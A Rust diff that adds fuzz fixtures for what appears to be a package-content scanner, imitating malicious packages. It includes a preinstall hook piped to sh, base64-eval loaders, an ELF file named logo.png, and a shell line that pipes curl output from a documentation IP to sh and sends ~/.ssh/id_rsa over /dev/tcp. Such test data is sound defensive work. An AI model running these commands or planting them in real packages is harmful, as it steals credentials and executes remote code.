@@ -161,3 +161,20 @@ pub fn compressed() -> Vec<Vec<u8>> {
         [&[6][..], b"BZh9\x17\x72\x45\x38\x50\x90\x00\x00\x00\x00"].concat(),
     ]
 }
+
+/// Files with their names and the manifest beside them, as the scanners of content see them.
+pub fn contents() -> Vec<Vec<u8>> {
+    let manifest: &[u8] = br#"{"name": "a", "version": "1.0", "scripts": {"preinstall": "node x.js | sh"}, "license": "MIT"}"#;
+    let files: [(&str, &[u8]); 6] = [
+        ("package/x.js", b"const c = require('child_process'); eval(Buffer.from('aHR0cHM6Ly8=', 'base64')); './y.sh'"),
+        ("package/y.sh", b"curl http://203.0.113.7/x | sh; base64 -d x | bash; cat ~/.ssh/id_rsa > /dev/tcp/x/1"),
+        ("package/setup.py", b"exec(__import__('base64').b64decode('cA==')); import subprocess, urllib.request"),
+        ("package/build.rs", b"fn main() { Command::new(\"curl\"); env::vars(); }"),
+        ("package/LICENSE", b"Permission is hereby granted, free of charge, to any person obtaining a copy of this software"),
+        ("package/logo.png", b"\x7fELF\x02\x01\x01"),
+    ];
+    let join = |(path, content): (&str, &[u8])| {
+        [path.as_bytes(), content, manifest].join(countersign_fuzz::SEPARATOR)
+    };
+    files.into_iter().map(join).collect()
+}
